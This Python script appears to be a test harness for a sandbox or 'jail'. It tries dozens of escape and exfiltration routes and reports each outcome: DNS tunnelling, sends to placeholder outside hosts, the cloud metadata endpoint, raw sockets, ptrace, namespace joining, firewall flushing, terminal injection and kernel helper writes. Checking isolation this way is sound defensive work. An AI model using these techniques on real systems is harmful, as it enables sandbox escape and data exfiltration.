"""Ways out of a sealed jail. Each prints one line of how it ended; run bare by the same user, most of them work."""

import array
import ctypes
import errno
import fcntl
import glob
import json
import os
import socket
import struct
import subprocess
import sys
import termios
from concurrent.futures import ThreadPoolExecutor

V4, V6, RESOLVER = "203.0.113.66", "2001:db8:99::66", "203.0.113.53"
SECONDS = 3
ENGINE, ABSTRACT = sys.argv[1:3]  # a daemon's socket by path, and by abstract name
CLONE_NEWNET = 0x40000000
libc = ctypes.CDLL(None, use_errno=True)


def system_call(number, *words):
    result = libc.syscall(number, *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def checked(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def datagram(address, port, family=socket.AF_INET):
    """UDP that is sent twice: the second tells what became of the first."""
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(SECONDS)
        sender.connect((address, port))
        sender.send(b"leak")
        sender.send(b"leak")
        return sender.recv(64).decode("latin-1")


def stream(address, port, family=socket.AF_INET, data=b"leak\n"):
    """TCP that says something and waits for an answer from where it meant to go."""
    with socket.socket(family, socket.SOCK_STREAM) as sender:
        sender.settimeout(SECONDS)
        sender.connect((address, port))
        sender.sendall(data)
        answer = sender.recv(4096)
        return f"answered {answer[:200]!r}" if answer else "closed"


def question(name, qtype, address=RESOLVER):
    """A DNS question with data in its name, to a resolver outside. Returns its rcode."""
    words = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(SECONDS)
        sender.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + words + struct.pack("!BHH", 0, qtype, 1), (address, 53))
        answer = sender.recv(4096)
        return f"rcode {answer[3] & 15}"


def raw(family, protocol):
    socket.socket(family, socket.SOCK_RAW, protocol).close()
    return "opened"


def of_family(family, kind=socket.SOCK_STREAM):
    socket.socket(family, kind, 0).close()
    return "opened"


def unix(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(SECONDS)
        client.connect(address)
        client.sendall(b"leak")
        return f"answered {client.recv(64)!r}"


def descriptors():
    """Sockets that were left open by whoever started this."""
    found = []
    for path in glob.glob("/proc/self/fd/*"):
        try:
            number = int(os.path.basename(path))
            if number > 2 and "socket:" in os.readlink(path):
                found.append(number)
        except OSError:
            continue
    return f"found {found}" if found else "none"


def processes(*paths):
    """Files of processes outside by which their network, memory or descriptors could be had."""
    seen = {pid for pid in os.listdir("/proc") if pid.isdigit()}
    outside = [pid for pid in seen if os.readlink("/proc/self/ns/net") != readlink(f"/proc/{pid}/ns/net")]
    for pid in outside:
        for path in paths:
            if readlink(f"/proc/{pid}/{path}"):
                return f"reached {pid}/{path}"
    return "none"


def readlink(path):
    try:
        return os.readlink(path)
    except OSError:
        return ""


def first_process():
    """The jail's own first process has not more than its children, and cannot be looked into."""
    for name in os.listdir("/proc/1/fd"):
        os.close(os.open(f"/proc/1/fd/{name}", os.O_RDONLY))
        return "opened"
    return "none"


def traced():
    checked(libc.ptrace(16, 1, 0, 0))  # PTRACE_ATTACH
    return "attached"


def new_namespaces():
    """Root in a user namespace of one's own: over a network of one's own, which leads nowhere."""
    script = ("import socket,fcntl,struct\n"
              "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
              "fcntl.ioctl(s,0x8914,struct.pack('16sh14x',b'lo',1))\n"
              "s.connect(('203.0.113.66',9999)); s.send(b'leak')")
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--net", "/usr/bin/python3", "-c", script],
                          capture_output=True, text=True, check=False)
    return "sent" if done.returncode == 0 else "none"


def ruleset():
    """Root in a user namespace of one's own, over the network of the jail."""
    done = subprocess.run(["unshare", "--user", "--map-root-user", "nft", "flush", "ruleset"], capture_output=True,
                          text=True, check=False)
    return "flushed" if done.returncode == 0 else "EPERM"


def unmounted():
    """Root in a user namespace of one's own, over mounts that were made for the jail."""
    script = f"umount {ENGINE} 2>/dev/null || umount -l /proc 2>/dev/null || umount /etc/resolv.conf"
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script], capture_output=True,
                          text=True, check=False)
    return "unmounted" if done.returncode == 0 else "EPERM"


def new_link():
    """A device that could become a wire."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.settimeout(SECONDS)
        body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + struct.pack("HH8s", 12, 3, b"leak0")
        kind = struct.pack("HH8s", 10, 1, b"dummy")
        body += struct.pack("HH", 4 + len(kind), 18) + kind
        route.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        answer = route.recv(4096)
        number = -struct.unpack_from("i", answer, 16)[0]
        return errno.errorcode.get(number, "made") if number else "made"


def joined():
    """The networks that a machine keeps at paths. On a thread of its own, so that what follows is not tried from there."""
    paths = [*glob.glob("/run/netns/*"), *glob.glob("/run/podjail-pods/*/netns/*"), *glob.glob("/run/docker/netns/*")]
    with ThreadPoolExecutor(1) as executor:
        return executor.submit(join_first, paths).result()


def join_first(paths):
    for path in paths:
        with open(path, "rb") as handle:
            checked(libc.setns(handle.fileno(), CLONE_NEWNET))
        return "joined"
    return "none"


def typed():
    """Input for the shell that waits outside for this terminal."""
    for number in (0, 1, 2):
        fcntl.ioctl(number, termios.TIOCSTI, b"x")
        return "typed"
    return "none"


def bound_socket():
    """A socket bound to a device, marked, and from a foreign address."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
        sender.settimeout(SECONDS)
        sender.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        sender.bind(("192.0.2.2", 0))
        sender.connect((V4, 4444))
        sender.sendall(b"leak")
        answer = sender.recv(64)
        return f"answered {answer!r}" if answer else "closed"


def uring():
    system_call(425, 8, ctypes.create_string_buffer(120))
    return "made"


def request_key():
    system_call(249, b"dns_resolver", b"leak.example.test", b"", -4)
    return "asked"


def passed_on():
    """Descriptors through a socket pair: what can be passed on is what is in here."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    with one, other, socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sender.fileno()]))])
        _, ancillary, _, _ = other.recvmsg(1, 64)
        with socket.socket(fileno=array.array("i", ancillary[0][2])[0]) as received:
            received.settimeout(SECONDS)
            received.connect((V4, 4444))
            received.sendall(b"leak\n")
            answer = received.recv(64)
            return f"answered {answer!r}" if answer else "closed"


def kernel_helper():
    """A program that the kernel would run outside."""
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper"):
        if os.path.exists(path):
            with open(path, "w", encoding="ascii") as file:
                file.write("|/bin/false")
            return f"wrote {path}"
    return "none"


METADATA = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
REQUEST = b"GET /?leak HTTP/1.1\r\nHost: registry.example.test\r\n\r\n"
HELLO = b"SSH-2.0-leak\r\n"
EXITS = {
    "DNS for an address": lambda: question("leak.registry.example.test", 1) and "told",
    "DNS for a text": lambda: question("leak.registry.example.test", 16),
    "DNS by TCP": lambda: stream(RESOLVER, 53, data=struct.pack("!H", 29) + struct.pack("!6H", 7, 0x100, 1, 0, 0, 0)
                                 + b"\x04leak\x04test\x00" + struct.pack("!2H", 16, 1)),
    "DNS over another port": lambda: datagram(RESOLVER, 5353),
    "UDP": lambda: datagram(V4, 9999),
    "UDP v6": lambda: datagram(V6, 9999, socket.AF_INET6),
    "QUIC": lambda: datagram(V4, 443),
    "broadcast": lambda: datagram("255.255.255.255", 9999),
    "multicast": lambda: datagram("224.0.0.251", 5353),
    "TCP to any port": lambda: stream(V4, 4444),
    "TCP v6": lambda: stream(V6, 4444, socket.AF_INET6),
    "SSH": lambda: stream(V4, 22, data=HELLO),
    "HTTP by address": lambda: stream("203.0.113.10", 80, data=REQUEST),
    "metadata": lambda: stream("169.254.169.254", 80, data=METADATA),
    "the machine's loopback": lambda: stream("127.0.0.1", 15020),
    "the sidecar's own port": lambda: stream("127.0.0.1", 15001, data=REQUEST),
    "a foreign source": bound_socket,
    "raw ICMP": lambda: raw(socket.AF_INET, 1),
    "raw IP": lambda: raw(socket.AF_INET, 255),
    "raw IPv6": lambda: raw(socket.AF_INET6, 58),
    "ping": lambda: of_family(socket.AF_INET, socket.SOCK_DGRAM) and datagram(V4, 7),
    "frames": lambda: raw(socket.AF_PACKET, 3),
    "virtual machine sockets": lambda: of_family(40),
    "Bluetooth": lambda: of_family(31, socket.SOCK_RAW),
    "kernel crypto": lambda: of_family(38, socket.SOCK_SEQPACKET),
    "io_uring": uring,
    "keys": request_key,
    "leftover descriptors": descriptors,
    "a daemon by path": lambda: unix(ENGINE),
    "a daemon by abstract name": lambda: unix("\0" + ABSTRACT),
    "files of processes": lambda: processes("root", "cwd", "exe", "fd/3"),
    "the first process": first_process,
    "tracing": traced,
    "namespaces of one's own": new_namespaces,
    "the jail's ruleset": ruleset,
    "the jail's mounts": unmounted,
    "a new link": new_link,
    "a kept network": joined,
    "the terminal": typed,
    "passed descriptors": passed_on,
    "the kernel's helpers": kernel_helper,
    "root": lambda: os.setuid(0) if os.getuid() else os.setuid(12345),
}

for name, attempt in EXITS.items():
    try:
        outcome = attempt() or "worked"
    except TimeoutError:
        outcome = "timeout"
    except OSError as error:
        outcome = errno.errorcode.get(error.errno, str(error))
    print(json.dumps({"name": name, "outcome": outcome}), flush=True)
